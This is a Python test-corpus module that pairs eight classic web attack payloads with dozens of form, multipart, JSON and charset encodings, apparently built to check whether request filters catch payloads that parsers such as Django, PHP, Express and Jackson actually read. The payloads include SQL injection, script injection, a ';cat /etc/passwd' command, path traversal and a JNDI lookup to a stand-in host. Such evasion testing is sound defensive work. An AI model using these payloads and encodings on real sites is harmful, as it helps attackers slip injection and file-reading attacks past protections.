"""The table: every payload in every form that a site's parser may read. Which it reads is recorded (``__main__``)."""

import base64
import json
import quopri
from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import quote, quote_plus

from tests.corpora.evasions import codings, form_quirks, json_quirks, part_quirks, xml_quirks
from tests.corpora.evasions.making import FORM, JSON, Made, Make, all_encoded, escaped
from tests.corpora.evasions.making import form as _form
from tests.corpora.evasions.making import json_text as _json
from tests.corpora.evasions.making import parts as _parts

PAYLOADS = {
    "condition": "1' or 1=1--",
    "union": "1 union select password from users",
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "command": ";cat /etc/passwd",
    "path": "../../../etc/passwd",
    "template": "{{7*7}}",
    "look-up": "${jndi:ldap://evil.test/a}",
}


class Evasion(NamedTuple):
    """A body of a media type for a site with this parser; ``payload`` is what the site must not see."""

    name: str
    site: str
    kind: str
    body: bytes
    coding: str
    payload: str


def _coded_form(charset: str, python: str) -> Make:
    return lambda payload: Made(f"{FORM}; charset={charset}", f"a={quote(payload.encode(python))}".encode())


_LINES = "Some notes of ours about this and that.\r\nThey begin in May,\r\nand end in June.\r\n{}\r\nThat is all.\r\n"
_SENTENCE = "We would like to tell all of you about the things that happened here last week, such as {} and more of it"
_SCRAMBLED = "ab!cd#ef$gh*ij+kl-mn.op/qr:st;uv<wx=yz>ab?cd@ef[gh]ij^kl_mn`op{qr|st}uv~" * 10
FORMS: dict[str, Make] = {
    "plain": _form("a={}"),
    "blanks as %20": _form("a={}", encode=lambda text: quote(text, safe="")),
    "every byte encoded": _form("a={}", encode=all_encoded),
    "raw": _form("a={}", encode=lambda text: text.replace("+", "%2B").replace("&", "%26").replace(";", "%3B")),
    "the last of two": _form("a=1&a={}"),
    "the first of two": _form("a={}&a=1"),
    "the 301st": _form("".join(f"x{each}=1&" for each in range(300)) + "a={}"),
    "empty pairs": _form("&&=&a={}&&"),
    "a name in brackets": _form("a[b][c]={}"),
    "a list": _form("a[]=1&a[]={}"),
    "a list with numbers": _form("a[7]={}"),
    "encoded brackets": _form("a%5Bb%5D={}"),
    "an open bracket": _form("a[b={}"),
    "a name with a dot": _form("a.b={}"),
    "a name with a blank": _form("+a+b={}"),
    "a name with a NUL": _form("a%00b={}"),
    "a name that is encoded": _form("%61={}"),
    "another equals sign": _form("a=x={}"),
    "a name": _form("{}=1"),
    "a name without a value": _form("{}"),
    "the key of a list": _form("a[{}]=1"),
    "media type in capitals": _form("a={}", "Application/X-WWW-Form-URLEncoded"),
    "media type with a blank": _form("a={}", f"{FORM} ; charset=utf-8"),
    "media type with parameters": _form("a={}", f"{FORM}; x=y; charset=UTF-8"),
    "a quoted charset": _form("a={}", f'{FORM}; charset="utf-8"'),
    "behind a line break": _form("a=x%0D%0A{}"),
    "behind 100 blanks": _form("a=" + "+" * 100 + "{}"),
    "behind a tab": _form("a=%09{}"),
    "behind 4 KiB": _form("a=" + "x+" * 2048 + "{}"),
    "base64 beside it": _form("b=aGVsbG8gd29ybGQgaGVsbG8%3D&a={}"),
    "JSON beside it": _form('b={"c":1}&a={}'),
    "JSON before it": _form('{"b":"x"}&a={}'),
    "XML before it": _form("<a/>&a={}"),
    "a delimiter before it": _form("--b%0D%0A&a={}"),
    "in several lines": _form("a=" + quote_plus(_LINES).replace("%7B%7D", "{}")),
    "in a long sentence": _form("a=" + quote_plus(_SENTENCE).replace("%7B%7D", "{}")),
    "among punctuation": _form(f"a={quote_plus(_SCRAMBLED)}" + "{}"),
    "behind a function": _form("a=function(a)%7B%7D+{}"),
    "among control characters": _form("a=" + "%01%02%03%04%05%06%07%08" * 40 + "{}"),
}
DJANGO_FORMS: dict[str, Make] = {
    "charset utf-16": _coded_form("utf-16-le", "utf-16-le"),
    "charset of IBM": _coded_form("cp037", "cp037"),
    "charset utf-7": _coded_form("utf-7", "utf-7"),
}


def _other_field(count: int) -> str:
    return "".join(f'--b\nContent-Disposition: form-data; name="x{each}"\n\n1\n' for each in range(count))


_FIELD = "Content-Disposition: form-data; name="
MULTIPARTS: dict[str, Make] = {
    "a part": _parts(),
    "a quoted boundary": _parts(kind='multipart/form-data; boundary="b"'),
    "a boundary in capitals": _parts(kind="multipart/form-data; BOUNDARY=b"),
    "a boundary behind a parameter": _parts(kind="multipart/form-data; charset=utf-8; boundary=b"),
    "a boundary before a parameter": _parts(kind="multipart/form-data; boundary=b; charset=utf-8"),
    "media type of parts in capitals": _parts(kind="Multipart/Form-Data; boundary=b"),
    "a comma behind the boundary": _parts(kind="multipart/form-data; boundary=b,c"),
    "lines that end in LF": _parts(end="\n"),
    "no last delimiter": _parts(tail=""),
    "text before it": _parts(before="x\n"),
    "260 parts before it": _parts(before=_other_field(260)),
    "a name without quotes": _parts(_FIELD + "a"),
    "a name in single quotes": _parts(_FIELD + "'a'"),
    "a name with an escape": _parts(_FIELD + r'"a\"b"'),
    "a name with a semicolon": _parts(_FIELD + '"a;filename=b"'),
    "a name in brackets of a part": _parts(_FIELD + '"a[b]"'),
    "two names": _parts(_FIELD + '"a"; name="b"'),
    "header in capitals": _parts('CONTENT-DISPOSITION: FORM-DATA; NAME="a"'),
    "header without blanks": _parts('Content-Disposition:form-data;name="a"'),
    "a folded header": _parts('Content-Disposition: form-data;\n name="a"'),
    "another header": _parts(f'X-Other: y\n{_FIELD}"a"'),
    "a media type of the part": _parts(f'{_FIELD}"a"\nContent-Type: text/plain'),
    "a binary media type of the part": _parts(f'{_FIELD}"a"\nContent-Type: application/octet-stream'),
    "an image by its media type": _parts(f'{_FIELD}"a"\nContent-Type: image/png'),
    "a parameter that ends in filename": _parts(_FIELD + '"a"; xfilename=y'),
    "a parameter behind it": _parts(_FIELD + '"a"; x=y'),
    "the name of the field": lambda payload: _parts(f'{_FIELD}"{payload}"')("x"),
    "part in quoted-printable": _parts(
        f'{_FIELD}"a"\nContent-Transfer-Encoding: quoted-printable',
        encode=lambda text: quopri.encodestring(text.encode(), quotetabs=True).decode().replace("<", "=3C"),
    ),
    "part in base64": _parts(
        f'{_FIELD}"a"\nContent-Transfer-Encoding: base64', encode=lambda text: base64.b64encode(text.encode()).decode()
    ),
    "a field behind a file": _parts(before='--b\nContent-Disposition: form-data; name="f"; filename="a"\n\nx\n'),
    "a form in a field": _parts(encode=lambda text: f"x=1&y={text}"),
}


def _escaped_in_capitals(text: str) -> str:
    return '"' + "".join(f"\\u{ord(each):04X}" for each in text) + '"'


JSONS: dict[str, Make] = {
    "JSON": _json('{"a":{}}'),
    "JSON in escapes": _json('{"a":{}}', encode=escaped),
    "JSON in escapes in capitals": _json('{"a":{}}', encode=_escaped_in_capitals),
    "JSON with escaped slashes": _json('{"a":{}}', encode=lambda text: json.dumps(text).replace("/", "\\/")),
    "the last of two keys": _json('{"a":1,"a":{}}'),
    "the first of two keys": _json('{"a":{},"a":1}'),
    "keys that are equal when decoded": _json('{"a":1,"\\u0061":{}}'),
    "a key": _json("{{}:1}"),
    "a key in escapes": _json("{{}:1}", encode=escaped),
    "a text alone": _json("{}"),
    "a list of lists": _json("[[[[{}]]]]"),
    "100 levels": _json('{"a":' * 100 + "{}" + "}" * 100),
    "the 601st text": _json("[" + '"some words here",' * 600 + "{}]"),
    "white space": _json(' \r\n\t{ "a" \n:\t{} } '),
    "a byte order mark": lambda payload: Made(JSON, b"\xef\xbb\xbf" + json.dumps({"a": payload}).encode()),
    "UTF-16 BE": _json('{"a":{}}', code="utf-16-be"),
    "UTF-16 LE": _json('{"a":{}}', code="utf-16-le"),
    "UTF-16 with a mark": _json('{"a":{}}', code="utf-16"),
    "UTF-32 BE": _json('{"a":{}}', code="utf-32-be"),
    "UTF-32 LE": _json('{"a":{}}', code="utf-32-le"),
    "a charset": _json('{"a":{}}', f"{JSON}; charset=utf-16", "utf-16"),
    "a vendor's type": _json('{"a":{}}', "application/vnd.example.v1+json"),
    "JSON as text": _json('{"a":{}}', "text/plain"),
    "JSON as a form": _json('{"a":{}}', FORM),
    "JSON of no known type": _json('{"a":{}}', "application/csp-report"),
    "large numbers": _json('{"n":1e400,"m":' + "9" * 400 + ',"a":{}}'),
    "more behind it": _json('{"a":{}} {"b":1}'),
    "a control character": _json('{"a":"\\u0000","b":{}}'),
    "half a surrogate pair": _json('{"a":"\\ud800","b":{}}'),
    "JSON in JSON": _json('{"a":{}}', encode=lambda text: json.dumps(json.dumps([text]))),
    "an empty name": _json('{"":{}}'),
    "JSON with several lines": lambda payload: Made(JSON, json.dumps({"a": _LINES.replace("{}", payload)}).encode()),
    "JSON with a long sentence": lambda payload: Made(
        JSON, json.dumps({"a": _SENTENCE.replace("{}", payload)}).encode()
    ),
    "JSON with punctuation": lambda payload: Made(JSON, json.dumps({"a": _SCRAMBLED + payload}).encode()),
    "JSON with a function": lambda payload: Made(JSON, json.dumps({"a": "function(a){} " + payload}).encode()),
    "JSON with control characters": lambda payload: Made(
        JSON,
        json.dumps({"a": "\x01\x02\x03\x04\x05\x06\x07\x08" * 40 + payload}).encode(),
    ),
}
_PLAIN: dict[str, dict[str, Make]] = {
    "Django": {**FORMS, **DJANGO_FORMS, **MULTIPARTS, **JSONS},
    "PHP": {**FORMS, **MULTIPARTS},
    "Express": {**FORMS, **MULTIPARTS},
    "Jackson": JSONS,
}
_QUIRKS: dict[str, dict[str, Make]] = {
    "Django": {**form_quirks.FORMS, **part_quirks.MULTIPARTS, **part_quirks.DJANGO, **json_quirks.JSONS},
    "PHP": {**form_quirks.FORMS, **part_quirks.MULTIPARTS},
    "Express": {**form_quirks.FORMS, **part_quirks.MULTIPARTS},
    "Jackson": json_quirks.JSONS,
    "body-parser": {**form_quirks.FORMS, **json_quirks.JSONS, **codings.CODINGS, **codings.CHARSETS},
    "Django REST": codings.CHARSETS,
    "expat": xml_quirks.XMLS,
    "libxml2": xml_quirks.XMLS,
    "Xerces": xml_quirks.XMLS,
}
SITES: dict[str, dict[str, Make]] = {site: _PLAIN.get(site, {}) | makes for site, makes in _QUIRKS.items()}


def rows() -> Iterator[Evasion]:
    """Yield payloads in every form, for every site; by turns some of the eight: four for each form, two for a quirk."""
    for makes_by_site, step in ((_PLAIN, 2), (_QUIRKS, 4)):
        for site, makes in makes_by_site.items():
            for number, (name, make) in enumerate(makes.items()):
                for attack, payload in list(PAYLOADS.items())[number % step :: step]:
                    made = make(payload)
                    yield Evasion(f"{site}, {name}: {attack}", site, made.kind, made.body, made.coding, payload)
